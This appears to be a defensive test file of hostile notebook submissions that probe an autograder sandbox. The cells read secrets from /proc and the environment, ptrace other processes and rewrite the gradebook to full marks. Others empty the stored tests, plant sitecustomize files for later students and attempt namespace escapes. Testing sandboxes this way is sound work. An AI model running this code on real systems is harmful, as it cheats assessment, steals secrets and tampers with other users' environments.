"""Attacks that read or change what is not theirs: files, memory, the neighbours, the network, the marks.

`attempt(what, action)` and PLACES (paths and a port that hold a secret) are put before each cell by the runner;
what an attempt got, or what stopped it, is printed.
"""

# %% hostile="environment" exercise="cube" loses=""
# Looks for secrets in the environment's variables, its own and those of every process it sees.
import glob
import os

attempt("the environment's secret", lambda: [value for value in os.environ.values() if "canary" in value])
for path in glob.glob("/proc/[0-9]*/environ"):
    attempt(path, lambda: "canary" in open(path).read())


def cube(x):
    return x**3


# %% hostile="known-files" exercise="cube" loses=""
# Reads the solutions, the grader, the gradebook, another submission and the home folder by their paths.
import os

for path in PLACES["files"]:
    attempt(f"reading {path}", lambda: open(path, "rb").read(100))
for path in PLACES["folders"]:
    attempt(f"listing {path}", lambda: os.listdir(path))


def cube(x):
    return x**3


# %% hostile="whole-disk" exercise="cube" loses=""
# Walks through every folder it can see for solutions, marks, keys and secrets.
import os


def looked_for():
    for folder, folders, files in os.walk("/"):
        if folder == "/":
            folders[:] = [name for name in folders if name not in ("proc", "usr")]
        folders[:] = [name for name in folders if name != "site-packages"]
        for name in files:
            if "canary" in name or name in ("gradebook.db", "nbgrader_config.py", "judge.py", "shadow", "id_rsa"):
                return os.path.join(folder, name)


attempt("the disk", looked_for)


def cube(x):
    return x**3


# %% hostile="other-processes" exercise="cube" loses=""
# Goes through every process's root, working directory, memory and open files in /proc.
import glob
import os

for folder in glob.glob("/proc/[0-9]*"):
    if not os.path.samefile(folder, "/proc/self"):
        for path in PLACES["files"]:
            attempt(f"{folder}/root", lambda: open(f"{folder}/root{path}").read(10))
        attempt(f"{folder}/mem", lambda: open(f"{folder}/mem", "rb+"))
        attempt(f"{folder}/cwd", lambda: os.listdir(f"{folder}/cwd/solutions"))
        for number in range(8):
            attempt(f"{folder}/fd/{number}", lambda: open(f"{folder}/fd/{number}"))
        attempt(f"{folder}/environ", lambda: open(f"{folder}/environ").read())


def cube(x):
    return x**3


# %% hostile="ptrace" exercise="cube" loses=""
# Attaches to its parent, and reads the memory of processes by their numbers.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def call(name, *arguments):
    if getattr(libc, name)(*arguments) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return True


for pid in {os.getppid(), PLACES["victim"]} - {os.getpid()}:
    attempt(f"attaching to {pid}", lambda: call("ptrace", 16, pid, None, None))


def cube(x):
    return x**3


# %% hostile="hidden-tests-in-memory" exercise="cube" loses=""
# Looks through everything alive in its own process for the reference and the hidden tests.
import gc
import sys

secrets = ["three times three" + " times three", "zeros have" + " equal", "BEGIN" + " HIDDEN", "BEGIN" + " SOLUTION"]


def found():
    for thing in gc.get_objects():
        if isinstance(thing, dict):
            for value in list(thing.values()):
                if isinstance(value, str) and any(secret in value for secret in secrets[::2]):
                    return value
    return "grading.judge" in sys.modules


attempt("the hidden tests", found)


def cube(x):
    return x**3


# %% hostile="network" exercise="cube" loses=""
# Connects to this machine's own services, to its abstract sockets, and looks for a way out.
import socket


def fetch(family, address):
    with socket.socket(family) as connection:
        connection.settimeout(1)
        connection.connect(address)
        return connection.recv(100)


attempt("a service on loopback", lambda: fetch(socket.AF_INET, ("127.0.0.1", PLACES["port"])))
attempt("an abstract socket", lambda: fetch(socket.AF_UNIX, "\0" + PLACES["abstract"]))
attempt("a socket in a folder", lambda: fetch(socket.AF_UNIX, PLACES["socket"]))
attempt("an interface", lambda: [name for _, name in socket.if_nameindex() if name != "lo"])


def cube(x):
    return x**3


# %% hostile="gradebook" exercise="cube" loses="*"
# Finds the gradebook and gives itself full marks, now and from a process that outlives the kernel.
import sqlite3
import subprocess
import sys

code = """
import os, sqlite3, sys, time
time.sleep(float(sys.argv[1]))
found = 0
for path in sys.argv[2:]:
    if os.path.isfile(path):
        base = sqlite3.connect(path, timeout=5)
        base.execute("update grade set auto_score = 2, needs_manual_grade = 0")
        base.commit()
        found += 1
print("changed" if found else "")
"""
marks = [path for path in PLACES["files"] if path.endswith("gradebook.db")]
attempt("the marks", lambda: subprocess.run([sys.executable, "-c", code, "0", *marks], capture_output=True,
                                            text=True).stdout.strip())  # fmt: skip
subprocess.Popen([sys.executable, "-c", code, "4", *marks], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip


def cube(x):
    return 0


# %% hostile="stored-tests" exercise="cube" loses="*"
# Finds the tests that nbgrader stores in the gradebook, to put them into every submission, and empties them.
import os
import sqlite3


def emptied():
    found = 0
    for path in PLACES["files"]:
        if path.endswith("gradebook.db") and os.path.isfile(path):
            base = sqlite3.connect(path, timeout=5)
            found += base.execute("update source_cell set source = 'pass' where source like '%assert%'").rowcount
            base.commit()
    return found


attempt("the stored tests", emptied)


def cube(x):
    return 0


# %% hostile="change-the-course" exercise="cube" loses=""
# Changes the shared library, installed packages, the grader's files and the interpreter's start for those who follow.
import os
import site
import sys


def write(path, text="# left by an attack\n"):
    with open(path, "a") as file:
        file.write(text)
    return path


import common

folders = [os.path.dirname(common.__file__), *site.getsitepackages(), *PLACES["folders"], os.path.dirname(sys.executable)]
for folder in folders:
    attempt(f"writing in {folder}", lambda: write(os.path.join(folder, "course_attack_canary.py")))


def cube(x):
    return x**3


# %% hostile="appends-to-config" exercise="cube" loses="*"
# Appends a line to nbgrader's configuration of the course, which the next command would run.
def append(path):
    with open(path, "r+") as file:
        file.seek(0, 2)
        file.write("\nraise SystemExit  # left by an attack\n")
    return path


for path in PLACES["files"]:
    attempt(f"appending to {path}", lambda: append(path))

# %% hostile="leaves-behind" exercise="cube" loses=""
# Leaves files for the next student where a kernel reads at its start: IPython's startup, the home, /tmp.
import os

for folder in ("~/.ipython/profile_default/startup", "~", "/tmp", "/dev/shm", "~/.local/lib/python3.11/site-packages",
               "/dev", "/dev/mqueue", "/run", "/var/tmp"):  # fmt: skip
    folder = os.path.expanduser(folder)
    for name in ("course_attack_left.py", "numpy.py", "sitecustomize.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write("import builtins\nbuiltins.course_attack = True\n")
        except OSError as error:
            print(f"=> stopped {folder}: {type(error).__name__}: {error}")


def cube(x):
    return x**3


# %% hostile="finds-left-behind" exercise="cube" loses=""
# Looks for what another submission left: files, shared memory, a changed interpreter.
import builtins
import glob
import os

from ipykernel import get_connection_file

attempt("a file of another student", lambda: [
    folder for folder in ("~/.ipython/profile_default/startup", "~", "/tmp", "/dev/shm", "/dev", "/run", "/var/tmp")
    if os.path.exists(os.path.join(os.path.expanduser(folder), "course_attack_left.py"))])  # fmt: skip
attempt("a changed interpreter", lambda: hasattr(builtins, "course_attack"))
attempt("a neighbour's sockets", lambda: [path for path in glob.glob(os.path.dirname(get_connection_file()) + "/../*")
                                          if not os.path.samefile(path, os.path.dirname(get_connection_file()))])
attempt("a neighbour's folder", lambda: glob.glob("/tmp/*/kernel*.json")[1:])


def cube(x):
    return x**3


# %% hostile="leaves-a-key" exercise="cube" loses=""
# Keeps text in the kernel's keyring for the next submission, if that can't be done says so, and looks for one.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def system(number, *arguments):
    got = libc.syscall(number, *arguments)
    if got < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return got


SESSION = ctypes.c_long(-3)
ADD_KEY, KEYCTL, SEARCH, EXPIRE = 248, 250, 10, 15
attempt("a key left by another", lambda: system(KEYCTL, SEARCH, SESSION, b"user", b"course-attack", 0))
try:
    key = system(ADD_KEY, b"user", b"course-attack", b"from a neighbour", 16, SESSION)
    system(KEYCTL, EXPIRE, key, 120)
except OSError as error:
    print(f"=> stopped leaving a key: {type(error).__name__}: {error}")


def cube(x):
    return x**3


# %% hostile="finds-a-key" exercise="cube" loses=""
# Looks in the kernel's keyring for the text that another submission keeps there.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def search():
    key = libc.syscall(250, 10, ctypes.c_long(-3), b"user", b"course-attack", 0)
    if key < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return key


attempt("a key left by another", search)


def cube(x):
    return x**3


# %% hostile="nested-namespace" exercise="cube" loses=""
# Becomes root in a namespace of its own, and takes the walls' mounts away or makes them writable.
import ctypes
import os

import common

libc = ctypes.CDLL(None, use_errno=True)


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return True


def inside():
    """In a child: user and mount namespaces, then what only root can do. Its findings as text."""
    lines = []
    folder = os.path.dirname(common.__file__).encode()
    remount, bind = 32, 4096
    actions = [("making common/ writable", lambda: libc.mount(None, folder, None, remount | bind, None)),
               ("uncovering /home", lambda: libc.umount2(b"/home/student", 2)),
               ("a fresh /proc", lambda: libc.mount(b"proc", b"/tmp", b"proc", 0, None)),
               ("a disk", lambda: os.mknod("/tmp/disk", 0o60600, os.makedev(254, 0))),
               ("tracing the first process", lambda: libc.ptrace(16, 1, None, None))]  # fmt: skip
    for what, action in actions:
        try:
            result = action()
            lines.append(f"=> got {what}" if result in (0, None) else
                         f"=> stopped {what}: OSError: {os.strerror(ctypes.get_errno())}")  # fmt: skip
        except OSError as error:
            lines.append(f"=> stopped {what}: {type(error).__name__}: {error.strerror}")
    return "\n".join(lines)


def in_one(write):
    checked(libc.unshare(0x10000000 | 0x00020000))
    write(inside())


attempt_in_a_child("a namespace of its own", in_one)


def cube(x):
    return x**3


# %% hostile="rank" exercise="cube" loses=""
# Makes itself the last to be killed for memory and the first to be served by the processor, and sets
# the clock and the machine's own settings (a program that it runs as root when another crashes; only opened here).
import os
import time


def write(path, text):
    before = open(path).read()
    with open(path, "w") as file:
        file.write(text)
    return open(path).read() != before


attempt("never to be killed", lambda: write("/proc/self/oom_score_adj", "-1000"))
attempt("to go before others", lambda: os.nice(-5) < 0)
attempt("real time", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10)) is None)
attempt("the clock", lambda: time.clock_settime(time.CLOCK_REALTIME, time.time()) is None)
for path in ("kernel/core_pattern", "kernel/hostname", "vm/overcommit_memory", "kernel/modprobe"):
    attempt(f"the machine's {path}", lambda: os.close(os.open(f"/proc/sys/{path}", os.O_WRONLY)) is None)
attempt("sysrq", lambda: os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY)) is None)
attempt("the user who owns the machine", lambda: os.setuid(0) is None)


def cube(x):
    return x**3


# %% hostile="link-in-exchange" exercise="cube" loses=""
# Puts links to the grader's files where the grader reads and removes its own.
import glob
import os

from ipykernel import get_connection_file

folder = os.path.dirname(get_connection_file())
for name in ("log", "kernel.json", "other"):
    path = os.path.join(folder, name)
    for target in PLACES["files"][:1]:
        try:
            if os.path.lexists(path):
                os.remove(path)
            os.symlink(target, path)
        except OSError as error:
            print(f"=> stopped a link: {type(error).__name__}: {error}")
try:
    os.symlink(PLACES["folders"][0], os.path.join(folder, "folder"))
except OSError as error:
    print(f"=> stopped a link: {type(error).__name__}: {error}")


def cube(x):
    return x**3


# %% hostile="held-out-data" exercise="cube" loses=""
# Replaces the course's data, and looks for labels and solutions among it.
import os

attempt("writing to the data", lambda: open(os.path.join(os.environ["COURSE_DATA"], "mnist.npz"), "wb"))
attempt("the labels", lambda: [name for name in os.listdir("/data") if "label" in name or "canary" in name])


def cube(x):
    return x**3
